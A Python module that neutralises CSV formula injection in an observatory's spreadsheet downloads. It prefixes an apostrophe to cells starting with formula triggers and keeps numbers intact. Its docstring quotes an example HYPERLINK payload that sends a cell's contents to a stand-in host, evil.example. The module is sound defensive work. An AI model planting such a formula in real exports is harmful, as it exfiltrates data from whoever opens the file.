"""Every CSV the observatory writes for people goes through `to_csv`: a cell that a spreadsheet
would run as a formula is written as text.

Coordinators open our downloads in Excel or LibreOffice, which run a cell starting with `=`,
`+`, `-` or `@` (and, after a tab or carriage return, the same) as a formula: a name such as
`=HYPERLINK("http://evil.example/?x="&A1,"Click")` would become a live link. Following OWASP's
rule, such a cell gets a leading apostrophe, which spreadsheets read as "this is text" and do
not show; numbers, negative ones included, stay numbers. The raw data folder is not written
here: the build and the importers refuse such text instead (`looks_like_formula`).
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$")


def looks_like_formula(text: str) -> bool:
    """True for text a spreadsheet would run as a formula (a number is not one)."""
    return text.startswith(TRIGGERS) and not _NUMBER.match(text)


def neutralise(value: Any) -> Any:
    """The value, with an apostrophe in front when a spreadsheet would run it."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def to_csv(frame: pd.DataFrame, **options: Any) -> str:
    """`frame.to_csv(index=False, **options)`, with text cells and column names neutralised.
    Numbers and dates are written by pandas as they are (a negative number stays one). Lines
    end in CRLF, as RFC 4180 says: the writer then quotes a cell holding a lone carriage
    return, which a spreadsheet would otherwise read as the start of a new row."""
    safe = frame.copy(deep=False)
    for i in range(frame.shape[1]):
        column = frame.iloc[:, i]
        neutral = _neutralised(column)
        if neutral is not column:  # most columns need nothing: no copy of them
            safe.isetitem(i, neutral)
    safe.columns = [neutralise(str(c)) for c in frame.columns]
    return safe.to_csv(index=False, lineterminator="\r\n", **options)


SMALL = 2000  # cells of a column looked at one by one (more: with pandas' string methods)


def _neutralised(column: pd.Series) -> pd.Series:
    if pd.api.types.is_numeric_dtype(column) or pd.api.types.is_datetime64_any_dtype(column):
        return column
    if len(column) <= SMALL:  # a chart's rows: pandas' string methods cost more per call
        found = [isinstance(v, str) and looks_like_formula(v) for v in column.tolist()]
        if not any(found):
            return column
        hits = pd.Series(found, index=column.index)
        return column.where(~hits, "'" + column.astype(str))
    try:
        texts = column.str
    except AttributeError:  # no text in it (e.g. an object column of numbers)
        return column
    starts = texts.startswith(TRIGGERS, na=False)
    if not starts.any():  # the usual case: the number test (a regex) only where it may matter
        return column
    hits = starts & ~texts.match(_NUMBER, na=False)
    if not hits.any():
        return column
    return column.where(~hits, "'" + column.astype(str))
